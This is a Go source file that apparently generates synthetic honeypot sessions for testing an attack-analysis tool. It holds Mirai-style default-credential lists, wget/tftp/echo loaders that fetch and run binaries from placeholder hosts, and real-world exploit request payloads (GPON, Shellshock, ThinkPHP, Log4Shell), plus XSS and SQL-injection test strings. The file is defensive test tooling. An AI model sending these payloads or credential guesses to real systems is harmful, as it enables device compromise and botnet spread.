package synth

import (
	"cmp"
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/honeyscope/honeyscope/internal/classify"
	"github.com/honeyscope/honeyscope/internal/session"
)

// SessionSensor is one honeypot sensor of SessionOptions.
type SessionSensor struct {
	// Name is every session's sensor ("" leaves it to whoever ingests
	// them: ingest names a Cowrie log's sessions as it names a capture).
	Name string
	// Net is the sensor's IPv4 prefix, the destination of its sessions;
	// default DefaultSensorNet.
	Net netip.Prefix
	// AllowCountries, when set, is the sensor's domestic-only mode: sessions
	// from sources placed elsewhere are refused and recorded only
	// (Session.Filtered, with their country), as the honeypot does.
	AllowCountries []string
}

// SessionOptions describe the honeypot sessions Sessions synthesizes.
type SessionOptions struct {
	Seed   uint64    // same seed and options give the same sessions
	Start  time.Time // day 0, truncated to its UTC midnight; default DefaultStart
	Days   int       // default DefaultDays
	PerDay int       // sessions per sensor per day; default DefaultSessionsPerDay
	// Sensors default to one sensor without a name on DefaultSensorNet.
	Sensors []SessionSensor
	Pool    AddrPool // required: source addresses by country
	// Hostile puts attacker-chosen markup and control characters into
	// about one session in eight (see HostileStrings).
	Hostile bool
}

// DefaultSensorNet2 is a second sensor's IPv4 prefix where one is
// needed (the demo's domestic sensor): 198.18.0.0/24, of the range RFC 2544
// sets aside for benchmarks, so it is never someone's network either.
var DefaultSensorNet2 = netip.MustParsePrefix("198.18.0.0/24")

// DefaultSessionsPerDay is SessionOptions.PerDay's default.
const DefaultSessionsPerDay = 40

// maxSessionsPerDay bounds SessionOptions.PerDay.
const maxSessionsPerDay = 100000

// SessionTruth counts what Sessions made, for tests to compare with what
// a store holds after ingesting them.
type SessionTruth struct {
	Sessions   int // all sessions
	LoggedIn   int // with a successful login
	Intrusions int // logged in and ran at least one command
	Filtered   int // refused by a domestic-only sensor
	Hostile    int // holding at least one of HostileStrings
	Commands   int
	URLs       int
	Requests   int
	Files      int
	Samples    int // distinct sample contents (ELF or script)
}

// HostileStrings are the attacker-chosen strings a hostile session carries
// in its credentials, commands, URLs, user agents, HTTP requests and first
// bytes: markup and script that must be shown escaped, NUL bytes and
// terminal escapes that must not reach a terminal raw, a right-to-left
// override, template and SQL syntax. A line of several kilobytes is added
// to them (LongHostileLine).
var HostileStrings = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`javascript:alert(document.cookie)`,
	`'><svg/onload=alert(1)>`,
	`</textarea></title></style><script>alert(2)</script>`,
	"nul\x00byte\x00",
	"\x1b[31;1mred\x1b[0m\x1b[2J\x1b[H",
	"\x1b]0;pwned\x07bell",
	"\u202etxt.exe",
	`{{.}}{{template "x"}}${7*7}`,
	`'; DROP TABLE sessions; --`,
	"%s%s%n%x",
	"line\r\nSet-Cookie: hs=1",
}

// LongHostileLine is a command line of about 9 kB ending in a script tag:
// long enough to test wrapping and truncation, short enough for the
// honeypot's line limit to keep it.
var LongHostileLine = "echo " + strings.Repeat("A", 9000) + `<script>alert("long")</script>`

// sessionKind is what a synthesized attacker does.
type sessionKind uint8

const (
	skTelnet  sessionKind = iota // Mirai-family telnet brute force and loader
	skSSH                        // SSH password guessing and a dropper script
	skHTTP                       // HTTP exploit requests
	skGeneric                    // first bytes of another service
)

// ssrc is one synthesized attacker.
type ssrc struct {
	addr        netip.Addr
	country     string
	kind        sessionKind
	first, last int // active days
	arch        int // index into sampleArches
	build       int // which build of the bot it spreads
	sport       uint16
	fixedPort   bool
}

// sgen holds one Sessions run.
type sgen struct {
	opt     SessionOptions
	r       rng
	srcs    []ssrc
	match   classify.ExploitMatcher
	samples map[string]bool
	truth   SessionTruth
}

// Sessions synthesizes honeypot sessions: per sensor and day, PerDay
// sessions of Mirai-family telnet bots (credential guessing from the
// bots' usual table, then enable/sh/busybox probes and a loader: wget, tftp
// or an echo loader that writes an ELF file byte by byte), SSH password
// guessers (client version and HASSH, reconnaissance commands, a dropper
// script fetched with wget or curl), HTTP exploit requests (GPON, JAWS,
// Huawei HG532, Shellshock, ThinkPHP, Log4Shell) and the first bytes of
// other services. Attackers come back on several days and some reach both
// sensors. The dropped files are bytes built here (ELF headers of each
// architecture followed by text; shell scripts), never a program.
//
// Sessions are what the honeypot's recorder would hold: commands split
// at ; && || |, URLs with how they were asked for, files with their SHA-256
// and type (and Content for samples), exploit patterns matched with the
// built-in set. They are ordered by start time.
func Sessions(opt SessionOptions) ([]session.Session, SessionTruth, error) {
	opt, err := opt.normalize()
	if err != nil {
		return nil, SessionTruth{}, err
	}
	g := &sgen{opt: opt, r: rng{s: mix(opt.Seed ^ 0x73657373696f6e73)}, match: classify.NewBuiltinExploits(), samples: map[string]bool{}}
	if err := g.population(); err != nil {
		return nil, SessionTruth{}, err
	}
	var out []session.Session
	for d := 0; d < opt.Days; d++ {
		for si := range opt.Sensors {
			act := g.activeOn(d, si)
			for k := 0; k < opt.PerDay; k++ {
				s := g.session(d, &opt.Sensors[si], &g.srcs[act[g.r.intn(uint32(len(act)))]])
				g.count(&s)
				out = append(out, s)
			}
		}
	}
	slices.SortStableFunc(out, func(a, b session.Session) int {
		return cmp.Or(a.Start.Compare(b.Start), cmp.Compare(a.ID, b.ID))
	})
	g.truth.Samples = len(g.samples)
	return out, g.truth, nil
}

func (opt SessionOptions) normalize() (SessionOptions, error) {
	if opt.Pool == nil {
		return opt, errors.New("synth: SessionOptions.Pool is required (source addresses by country)")
	}
	if opt.Days == 0 {
		opt.Days = DefaultDays
	}
	if opt.Days < 0 || opt.Days > maxDays {
		return opt, fmt.Errorf("synth: days %d out of range 1..%d", opt.Days, maxDays)
	}
	if opt.PerDay == 0 {
		opt.PerDay = DefaultSessionsPerDay
	}
	if opt.PerDay < 0 || opt.PerDay > maxSessionsPerDay {
		return opt, fmt.Errorf("synth: sessions per day %d out of range 1..%d", opt.PerDay, maxSessionsPerDay)
	}
	if opt.Start.IsZero() {
		opt.Start = DefaultStart
	}
	u := opt.Start.UTC()
	opt.Start = time.Date(u.Year(), u.Month(), u.Day(), 0, 0, 0, 0, time.UTC)
	if len(opt.Sensors) == 0 {
		opt.Sensors = []SessionSensor{{}}
	}
	opt.Sensors = slices.Clone(opt.Sensors)
	for i := range opt.Sensors {
		s := &opt.Sensors[i]
		if !s.Net.IsValid() {
			s.Net = DefaultSensorNet
		}
		if !s.Net.Addr().Is4() || s.Net.Bits() < 8 {
			return opt, fmt.Errorf("synth: sensor %q net %s: want an IPv4 prefix of length 8..32", s.Name, s.Net)
		}
		s.Net = s.Net.Masked()
	}
	return opt, nil
}

// sessionCountries weights the countries attackers come from (those the
// pool lacks are skipped; the pool's other countries share a tail).
var sessionCountries = []cw{{"CN", 20}, {"BR", 9}, {"IN", 8}, {"US", 8}, {"VN", 7}, {"RU", 6}, {"TW", 5}, {"KR", 5},
	{"ID", 4}, {"JP", 4}, {"IR", 3}, {"EG", 3}, {"NL", 3}, {"DE", 3}, {"MX", 2}, {"TR", 2}, {"TH", 2}, {"AR", 2}}

// population draws the attackers: enough that each comes back on a few
// days, a share of them from each domestic-only sensor's countries.
func (g *sgen) population() error {
	avail := map[string]bool{}
	for _, c := range g.opt.Pool.Countries() {
		if c != "" {
			avail[c] = true
		}
	}
	if len(avail) == 0 {
		return errors.New("synth: the address pool lists no countries")
	}
	var cs []string
	var ws []float64
	var rest []string
	for _, c := range sessionCountries {
		if avail[c.cc] {
			cs, ws = append(cs, c.cc), append(ws, c.w)
		}
	}
	for c := range avail {
		if !slices.Contains(cs, c) {
			rest = append(rest, c)
		}
	}
	slices.Sort(rest)
	var domestic []string
	for _, s := range g.opt.Sensors {
		for _, c := range s.AllowCountries {
			if avail[c] && !slices.Contains(domestic, c) {
				domestic = append(domestic, c)
			}
		}
	}
	n := max(12, g.opt.PerDay*g.opt.Days*len(g.opt.Sensors)/5)
	n = min(n, 200000)
	var al alias
	if len(ws) > 0 {
		al.build(ws)
	}
	seen := map[netip.Addr]bool{}
	for i := 0; len(g.srcs) < n && i < 4*n; i++ {
		var c string
		switch x := g.r.intn(100); {
		case len(domestic) > 0 && x < 15:
			c = domestic[g.r.intn(uint32(len(domestic)))]
		case len(cs) > 0 && (x < 85 || len(rest) == 0):
			c = cs[al.pick(&g.r)]
		default:
			c = rest[g.r.intn(uint32(len(rest)))]
		}
		a, ok := g.opt.Pool.Addr(c, g.r.next())
		if !ok || !a.Is4() || seen[a] {
			continue
		}
		seen[a] = true
		first := int(g.r.intn(uint32(g.opt.Days)))
		life := 1 + int(g.r.intn(6))
		if g.r.intn(10) == 0 {
			life = g.opt.Days // a steady one
		}
		s := ssrc{addr: a, country: c, first: first, last: min(g.opt.Days-1, first+life-1),
			arch: int(g.r.intn(uint32(len(sampleArches)))), build: int(g.r.intn(3)),
			sport: uint16(1024 + g.r.intn(64511)), fixedPort: g.r.intn(5) == 0}
		switch x := g.r.intn(100); {
		case x < 50:
			s.kind = skTelnet
		case x < 75:
			s.kind = skSSH
		case x < 94:
			s.kind = skHTTP
		default:
			s.kind = skGeneric
		}
		g.srcs = append(g.srcs, s)
	}
	if len(g.srcs) == 0 {
		return errors.New("synth: the address pool gave no IPv4 source address")
	}
	return nil
}

// activeOn returns the attackers active on day d at sensor si (never empty:
// day 0's first attacker stands in).
func (g *sgen) activeOn(d, si int) []int {
	var act []int
	for i := range g.srcs {
		s := &g.srcs[i]
		// Each attacker reaches the first sensor; one in two also reaches
		// each other one.
		if d >= s.first && d <= s.last && (si == 0 || hash(g.opt.Seed, uint64(i), uint64(si), 0x5e)&1 == 0) {
			act = append(act, i)
		}
	}
	if len(act) == 0 {
		act = append(act, int(hash(g.opt.Seed, uint64(d), uint64(si), 0xac)%uint64(len(g.srcs))))
	}
	return act
}

// count adds s to the truth.
func (g *sgen) count(s *session.Session) {
	t := &g.truth
	t.Sessions++
	if s.LoggedIn {
		t.LoggedIn++
	}
	if s.Intrusion() {
		t.Intrusions++
	}
	if s.Filtered {
		t.Filtered++
	}
	if hostileSession(s) {
		t.Hostile++
	}
	t.Commands += len(s.Commands)
	t.URLs += len(s.URLs)
	t.Requests += len(s.Requests)
	t.Files += len(s.Files)
	for _, f := range s.Files {
		if f.Sample {
			g.samples[f.SHA256] = true
		}
	}
}

// hostileSession reports whether any string of s holds a hostile string.
func hostileSession(s *session.Session) bool {
	strs := []string{s.Username, s.Password, s.ClientVersion, string(s.FirstBytes)}
	for _, l := range s.Logins {
		strs = append(strs, l.Username, l.Password)
	}
	for _, c := range s.Commands {
		strs = append(strs, c.Input)
	}
	for _, u := range s.URLs {
		strs = append(strs, u.URL, u.Target)
	}
	for _, q := range s.Requests {
		strs = append(strs, q.Path, q.Host, q.Headers, string(q.Body))
	}
	for _, f := range s.Files {
		strs = append(strs, f.Path)
	}
	for _, x := range strs {
		if strings.Contains(x, LongHostileLine) {
			return true
		}
		for _, h := range HostileStrings {
			if strings.Contains(x, h) {
				return true
			}
		}
	}
	return false
}

// builder assembles one session with a clock that moves forward.
type builder struct {
	g   *sgen
	s   session.Session
	now time.Time
	bad bool // a hostile session
}

// step moves the clock on by a few hundred milliseconds to a few seconds.
func (b *builder) step(minMS, maxMS uint32) time.Time {
	b.now = b.now.Add(time.Duration(minMS+b.g.r.intn(maxMS-minMS+1)) * time.Millisecond)
	return b.now
}

// hostile returns a hostile string (or the long line, rarely).
func (b *builder) hostile() string {
	if b.g.r.intn(12) == 0 {
		return LongHostileLine
	}
	return HostileStrings[b.g.r.intn(uint32(len(HostileStrings)))]
}

func (b *builder) login(method, user, pass string, ok bool) {
	b.s.Logins = append(b.s.Logins, session.Login{Time: b.step(300, 2500), Method: method, Username: user, Password: pass, Success: ok})
	b.s.BytesIn += int64(len(user) + len(pass) + 2)
	if ok {
		b.s.LoggedIn, b.s.Username, b.s.Password = true, user, pass
	}
}

// command records a command line, split at ; && || | as the shell does.
func (b *builder) command(line string, known bool) {
	b.s.BytesIn += int64(len(line) + 2)
	for _, part := range splitCommand(line) {
		c := session.Command{Time: b.step(50, 1500), Input: part, Known: known}
		if id := b.g.match.Match([]byte(part)); id >= 0 {
			if n, _ := b.g.match.Pattern(id); n != "" {
				c.Patterns = []string{n}
			}
		}
		b.s.Commands = append(b.s.Commands, c)
	}
}

// splitCommand splits a command line at ; && || and |, trimming spaces.
func splitCommand(line string) []string {
	var out []string
	start := 0
	for i := 0; i < len(line); i++ {
		n := 0
		switch {
		case strings.HasPrefix(line[i:], "&&"), strings.HasPrefix(line[i:], "||"):
			n = 2
		case line[i] == ';' || line[i] == '|':
			n = 1
		}
		if n == 0 {
			continue
		}
		if p := strings.TrimSpace(line[start:i]); p != "" {
			out = append(out, p)
		}
		i += n - 1
		start = i + 1
	}
	if p := strings.TrimSpace(line[start:]); p != "" {
		out = append(out, p)
	}
	return out
}

func (b *builder) url(u, via, target string) {
	b.s.URLs = append(b.s.URLs, session.URL{Time: b.now, URL: u, Via: via, Target: target})
}

// file records a file the session wrote, with its SHA-256 and type.
func (b *builder) file(path, via string, content []byte) {
	sum := sha256.Sum256(content)
	typ := session.FileType(content)
	f := session.File{Time: b.now, Path: path, Size: int64(len(content)), SHA256: hex.EncodeToString(sum[:]), Type: typ, Via: via, Sample: session.IsSample(typ)}
	if f.Sample {
		f.Content = content
	}
	b.s.Files = append(b.s.Files, f)
}

// request records an HTTP request and the URLs in it.
func (b *builder) request(method, path, host, ua string, extra []string, body string, status int) {
	hdr := []string{"Host: " + host, "User-Agent: " + ua}
	hdr = append(hdr, extra...)
	if body != "" {
		hdr = append(hdr, "Content-Length: "+strconv.Itoa(len(body)))
	}
	q := session.Request{Time: b.step(100, 3000), Method: method, Path: path, Version: "HTTP/1.1", Host: host,
		Headers: strings.Join(hdr, "\n"), Body: []byte(body), BodySize: int64(len(body)), Status: status}
	payload := method + " " + path + " HTTP/1.1\r\n" + strings.Join(hdr, "\r\n") + "\r\n\r\n" + body
	if id := b.g.match.Match([]byte(payload)); id >= 0 {
		if n, _ := b.g.match.Pattern(id); n != "" {
			q.Patterns = []string{n}
		}
	}
	if b.s.ClientVersion == "" {
		b.s.ClientVersion = ua
	}
	b.s.Requests = append(b.s.Requests, q)
	b.s.BytesIn += int64(len(payload))
	b.s.BytesOut += 200 + int64(b.g.r.intn(2000))
	for _, u := range urlsIn(payload) {
		b.url(u, "request", "")
	}
}

// urlsIn returns the http:// URLs in a request, as the honeypot extracts
// them (up to a space, quote, ;, &, + or the end).
func urlsIn(p string) []string {
	var out []string
	for {
		i := strings.Index(p, "http://")
		if i < 0 {
			return out
		}
		p = p[i:]
		j := strings.IndexAny(p, " \t\r\n\"';&+<>`)")
		if j < 0 {
			j = len(p)
		}
		if j > len("http://") {
			out = append(out, p[:j])
		}
		p = p[j:]
	}
}

// session synthesizes one session of attacker src at sensor sn on day d.
func (g *sgen) session(d int, sn *SessionSensor, src *ssrc) session.Session {
	day := g.opt.Start.AddDate(0, 0, d)
	// A mild diurnal curve: more sessions in the UTC afternoon.
	sec := g.r.intn(86400)
	if g.r.intn(3) == 0 {
		sec = 10*3600 + g.r.intn(8*3600)
	}
	start := day.Add(time.Duration(sec)*time.Second + time.Duration(g.r.intn(1000))*time.Millisecond)
	var id [8]byte
	x := g.r.next()
	for i := range id {
		id[i] = byte(x >> (8 * i))
	}
	b := &builder{g: g, now: start}
	b.s = session.Session{ID: hex.EncodeToString(id[:]), Sensor: sn.Name, Src: src.addr, Dst: dstIn(sn.Net, g.r.next()), Start: start}
	b.s.SrcPort = src.sport
	if !src.fixedPort {
		b.s.SrcPort = uint16(32768 + g.r.intn(28232))
	}
	b.bad = g.opt.Hostile && g.r.intn(8) == 0
	if len(sn.AllowCountries) > 0 && !slices.Contains(sn.AllowCountries, src.country) {
		b.s.Filtered, b.s.Country = true, src.country
		b.s.Service, b.s.Port = serviceOf(src.kind, &g.r)
		b.s.EndReason = "refused"
		b.s.End = b.step(0, 5)
		return b.s
	}
	if len(sn.AllowCountries) > 0 {
		b.s.Country = src.country
	}
	switch src.kind {
	case skTelnet:
		b.telnet(src)
	case skSSH:
		b.ssh(src)
	case skHTTP:
		b.http(src)
	default:
		b.generic()
	}
	if b.s.EndReason == "" {
		b.s.EndReason = []string{"closed", "closed", "closed", "exit", "idle"}[g.r.intn(5)]
	}
	b.s.End = b.step(200, 4000)
	if b.s.EndReason == "idle" {
		b.s.End = b.s.End.Add(3 * time.Minute)
	}
	b.s.BytesOut += 40 + int64(len(b.s.Commands))*60
	return b.s
}

// dstIn returns an address of prefix p chosen by x.
func dstIn(p netip.Prefix, x uint64) netip.Addr {
	a := p.Addr().As4()
	base := uint32(a[0])<<24 | uint32(a[1])<<16 | uint32(a[2])<<8 | uint32(a[3])
	hosts := uint64(1) << (32 - p.Bits())
	v := base + uint32(x%hosts)
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
}

// serviceOf returns an attacker kind's service and destination port.
func serviceOf(k sessionKind, r *rng) (string, uint16) {
	switch k {
	case skTelnet:
		return session.Telnet, []uint16{23, 23, 23, 2323}[r.intn(4)]
	case skSSH:
		return session.SSH, []uint16{22, 22, 2222}[r.intn(3)]
	case skHTTP:
		return session.HTTP, []uint16{80, 80, 8080, 8081, 81}[r.intn(5)]
	}
	return session.Generic, []uint16{5555, 6379, 2375, 8291, 7547}[r.intn(5)]
}

// sessionCreds are user/password pairs telnet and SSH guessers try: the
// default logins of DVRs, routers and cameras, written for this package.
var sessionCreds = [][2]string{
	{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "default"},
	{"root", "hi3518"}, {"root", "jvbzd"}, {"root", "anko"}, {"root", "zlxx."},
	{"root", "7ujMko0admin"}, {"root", "system"}, {"root", "ikwb"}, {"root", "dreambox"},
	{"root", "realtek"}, {"root", "00000000"}, {"admin", "1111111"}, {"admin", "meinsm"},
	{"support", "support"}, {"root", "Zte521"}, {"telnetadmin", "telnetadmin"}, {"default", "lJwpbo6"},
	{"guest", "12345"}, {"ubnt", "ubnt"}, {"root", "GM8182"}, {"e8ehome", "e8ehome"},
	{"admin", "7ujMko0admin"}, {"root", "hunt5759"}, {"mother", "fucker"}, {"root", "tsgoingon"},
}

// sshCreds are what SSH guessers try beyond the device defaults.
var sshCreds = [][2]string{
	{"root", "123456"}, {"root", "password"}, {"ubuntu", "ubuntu"}, {"pi", "raspberry"},
	{"oracle", "oracle"}, {"test", "test123"}, {"postgres", "postgres"}, {"user", "1q2w3e4r"},
	{"git", "git"}, {"admin", "P@ssw0rd"}, {"root", "Huawei@123"}, {"deploy", "deploy"},
}

// loaderHosts serve the bots' binaries (documentation addresses).
var loaderHosts = []string{"198.51.100.23", "198.51.100.77", "203.0.113.45", "203.0.113.90", "192.0.2.200"}

// botTokens are the busybox applet names bots use as markers.
var botTokens = []string{"ECCHI", "MIRAI", "OKIRU", "SORA", "YOWAI", "HAJIME", "MASUTA"}

func (b *builder) telnet(src *ssrc) {
	r := &b.g.r
	b.s.Service, b.s.Port = serviceOf(skTelnet, r)
	b.s.TelnetOptions = []string{"WILL 24,WILL 31,DO 1,DO 3", "DO 1,DO 3,WILL 24", "WONT 1,DO 3"}[r.intn(3)]
	tries := 1 + int(r.intn(6))
	ok := r.intn(10) < 7
	for i := 0; i < tries; i++ {
		c := sessionCreds[r.intn(uint32(len(sessionCreds)))]
		user, pass := c[0], c[1]
		if b.bad && i == 0 {
			if r.intn(2) == 0 {
				user = b.hostile()
			} else {
				pass = b.hostile()
			}
		}
		b.login("telnet", user, pass, ok && i == tries-1)
	}
	if !b.s.LoggedIn {
		b.s.EndReason = "closed"
		return
	}
	a := sampleArches[src.arch]
	b.s.Arch = a.name
	token := botTokens[src.build%len(botTokens)]
	b.command("enable", true)
	b.command("system", false)
	b.command("shell", false)
	b.command("sh", true)
	b.command("/bin/busybox "+token, false)
	b.command("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /", true)
	host := loaderHosts[(src.build+src.arch)%len(loaderHosts)]
	bin := a.name
	switch r.intn(3) {
	case 0: // wget loader
		u := "http://" + host + "/bins/" + bin
		b.command("/bin/busybox wget "+u+" -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper", true)
		b.url(u, "wget", "dvrHelper")
		b.command("./dvrHelper telnet."+bin, false)
	case 1: // tftp loader
		b.command("/bin/busybox tftp -g -l .t -r "+bin+" "+host, true)
		b.url("tftp://"+host+"/"+bin, "tftp", ".t")
		b.command("/bin/busybox chmod 777 .t; ./.t telnet.loader", true)
	default: // echo loader: the binary written in chunks
		elf := sampleELF(src.arch, src.build)
		for off := 0; off < len(elf); off += 128 {
			op := ">>"
			if off == 0 {
				op = ">"
			}
			b.command("/bin/busybox echo -ne '"+hexEscape(elf[off:min(off+128, len(elf))])+"' "+op+" .d", true)
		}
		b.file("/tmp/.d", "echo", elf)
		b.command("/bin/busybox chmod 777 .d; ./.d telnet.echo", true)
	}
	if b.bad {
		b.command(b.hostile(), false)
		u := "http://" + host + "/" + HostileStrings[r.intn(uint32(len(HostileStrings)))]
		if r.intn(3) == 0 {
			u = `javascript:alert(document.domain)//` + host
		}
		b.command("/bin/busybox wget "+u, true)
		b.url(u, "wget", "")
	}
	b.command("/bin/busybox "+token, false)
}

func (b *builder) ssh(src *ssrc) {
	r := &b.g.r
	b.s.Service, b.s.Port = serviceOf(skSSH, r)
	b.s.ClientVersion = []string{"SSH-2.0-Go", "SSH-2.0-libssh2_1.9.0", "SSH-2.0-PUTTY", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-paramiko_3.4.0"}[src.build%5]
	if b.bad && r.intn(2) == 0 {
		b.s.ClientVersion = "SSH-2.0-" + b.hostile()
	}
	algos := []string{
		"curve25519-sha256,diffie-hellman-group14-sha1;aes128-ctr,aes256-ctr;hmac-sha2-256;none",
		"diffie-hellman-group1-sha1,diffie-hellman-group14-sha1;aes128-cbc,3des-cbc;hmac-sha1;none",
		"curve25519-sha256@libssh.org,ecdh-sha2-nistp256;chacha20-poly1305@openssh.com,aes128-gcm@openssh.com;hmac-sha2-512;none,zlib@openssh.com",
	}[src.build%3]
	sum := md5.Sum([]byte(algos))
	b.s.HASSH, b.s.HASSHAlgos = hex.EncodeToString(sum[:]), algos
	tries := 1 + int(r.intn(8))
	ok := r.intn(2) == 0
	for i := 0; i < tries; i++ {
		c := sshCreds[r.intn(uint32(len(sshCreds)))]
		if r.intn(2) == 0 {
			c = sessionCreds[r.intn(uint32(len(sessionCreds)))]
		}
		user, pass := c[0], c[1]
		if b.bad && i == 0 {
			user = b.hostile()
		}
		b.login("password", user, pass, ok && i == tries-1)
	}
	if !b.s.LoggedIn {
		return
	}
	b.s.Arch = "x86_64"
	if r.intn(3) == 0 {
		return // logged in, ran nothing
	}
	b.command("uname -a", true)
	b.command("cat /proc/cpuinfo | grep name | wc -l", true)
	b.command(`echo "root:`+strconv.Itoa(100000+int(r.intn(900000)))+`" | chpasswd`, true)
	host := loaderHosts[src.build%len(loaderHosts)]
	name := []string{"x.sh", "b.sh", "ohshit.sh", "k.sh"}[src.build%4]
	u := "http://" + host + "/" + name
	if r.intn(2) == 0 {
		b.command("cd /tmp; wget "+u+"; chmod 777 "+name+"; sh "+name, true)
		b.url(u, "wget", name)
	} else {
		b.command("cd /tmp; curl -O "+u+"; sh "+name, true)
		b.url(u, "curl", name)
	}
	if r.intn(3) == 0 {
		script := sampleScript(host, src.build)
		b.command(`echo "`+strings.ReplaceAll(string(script), "\n", `\n`)+`" > /tmp/.s`, true)
		b.file("/tmp/.s", "echo", script)
	}
	if b.bad {
		b.command(b.hostile(), false)
	}
	b.command("history -c; rm -rf "+name, true)
}

func (b *builder) http(src *ssrc) {
	r := &b.g.r
	b.s.Service, b.s.Port = serviceOf(skHTTP, r)
	host := b.s.Dst.String() + ":" + strconv.Itoa(int(b.s.Port))
	lh := loaderHosts[src.build%len(loaderHosts)]
	ua := []string{"Hello, world", "Mozilla/5.0", "python-requests/2.31.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"}[src.build%4]
	if b.bad {
		ua = b.hostile()
	}
	n := 1 + int(r.intn(3))
	for i := 0; i < n; i++ {
		path, hostHdr := "", host
		var extra []string
		method, body, status := "GET", "", 404
		switch (src.arch + i) % 6 {
		case 0:
			method, path = "POST", "/GponForm/diag_Form?images/"
			body = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://" + lh + "/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80`&ipv=0"
		case 1:
			path = "/shell?cd+/tmp;rm+-rf+*;wget+http://" + lh + "/jaws;sh+/tmp/jaws"
		case 2:
			method, path = "POST", "/ctrlt/DeviceUpgrade_1"
			body = `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g ` + lh + ` -l /tmp/.h -r /h.mips; /tmp/.h huawei)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>`
			extra = []string{`Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", uri="/ctrlt/DeviceUpgrade_1"`}
		case 3:
			path = "/cgi-bin/status"
			extra = []string{`Referer: () { :;}; /bin/bash -c "wget http://` + lh + `/s.sh -O /tmp/s.sh; sh /tmp/s.sh"`}
		case 4:
			path = "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget+http://" + lh + "/t.sh+-O+/tmp/t.sh"
		default:
			path, status = "/", 200
			extra = []string{"X-Api-Version: ${jndi:ldap://" + lh + ":1389/a}"}
		}
		if b.bad {
			switch r.intn(3) {
			case 0:
				path += "&q=" + b.hostile()
			case 1:
				hostHdr = HostileStrings[r.intn(uint32(len(HostileStrings)))]
			default:
				extra = append(extra, "Referer: "+b.hostile())
			}
		}
		b.request(method, path, hostHdr, ua, extra, body, status)
	}
}

func (b *builder) generic() {
	r := &b.g.r
	b.s.Service, b.s.Port = serviceOf(skGeneric, r)
	var first []byte
	switch b.s.Port {
	case 5555:
		first = []byte("CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00")
	case 6379:
		first = []byte("*1\r\n$4\r\nINFO\r\n")
	case 2375:
		first = []byte("GET /containers/json HTTP/1.1\r\nHost: " + b.s.Dst.String() + ":2375\r\nUser-Agent: Go-http-client/1.1\r\n\r\n")
	case 8291:
		first = []byte{0x68, 0x01, 0x00, 0x66, 0x4d, 0x32, 0x05, 0x00, 0xff, 0x01, 0x06, 0x00, 0xff, 0x09, 0x05, 0x07}
	default:
		first = []byte("POST /tr069 HTTP/1.1\r\nHost: " + b.s.Dst.String() + "\r\nContent-Type: text/xml\r\n\r\n<soap:Envelope/>")
	}
	if b.bad {
		first = append(first, b.hostile()...)
	}
	if len(first) > session.DefaultLimits().FirstBytes {
		first = first[:session.DefaultLimits().FirstBytes]
	}
	b.step(10, 200)
	b.s.FirstBytes = first
	b.s.BytesIn = int64(len(first))
	b.s.EndReason = "closed"
}

// hexEscape writes b as \xNN escapes, as echo loaders send binaries.
func hexEscape(b []byte) string {
	const digits = "0123456789abcdef"
	out := make([]byte, 0, 4*len(b))
	for _, c := range b {
		out = append(out, '\\', 'x', digits[c>>4], digits[c&15])
	}
	return string(out)
}
